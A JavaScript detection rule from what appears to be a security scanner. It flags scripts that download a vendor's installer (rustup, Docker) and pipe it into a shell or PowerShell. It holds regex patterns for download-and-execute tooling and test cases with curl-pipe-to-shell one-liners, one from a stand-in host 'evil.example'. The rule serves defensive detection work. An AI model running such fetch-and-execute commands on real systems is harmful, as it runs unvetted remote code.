import { defineRule } from './rule.js';
import { invocationUrls, urlsIn } from './match.js';
import { vendorOnly } from './ps-download-execute.js';
import { downloadRuns, isVendorInstaller } from './download-pipe-shell.js';

export const rule = defineRule({
  id: 'vendor_installer_pipe',
  category: 'download_execute',
  severity: 'high',
  technique: 'T1105',
  title: "Pipes a well-known vendor's installer script into a shell (rustup, Docker, Homebrew…)",
  check(ctx) {
    const ps = ctx.psScripts
      .filter((s) => vendorOnly(s.text) && /iex|invoke-expression|scriptblock\]::create/.test(s.text) && /irm|iwr|invoke-restmethod|invoke-webrequest|downloadstring/.test(s.text))
      .map((s) => ({ span: s.span, explanation: `downloads ${urlsIn(s.text)[0]} and runs it in PowerShell; it comes from a known vendor, but what it runs is not shown` }));
    return [...ps, ...downloadRuns(ctx)
      .filter(({ fetch }) => isVendorInstaller(fetch))
      .map(({ inv, fetch }) => ({
        span: { start: fetch.span.start, end: inv.span.end },
        explanation: `downloads the installer ${invocationUrls(fetch)[0]} and runs it with ${inv.program}; it comes from a known vendor, but what it runs is not shown`,
      }))];
  },
  cases: {
    positive: [["bash", "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh"], ['bash', 'curl -fsSL https://get.docker.com | sh']],
    negative: [['bash', 'curl -fsSL https://get.docker.com -o get-docker.sh'], ['bash', 'curl -fsSL https://evil.example/x | sh']],
  },
});
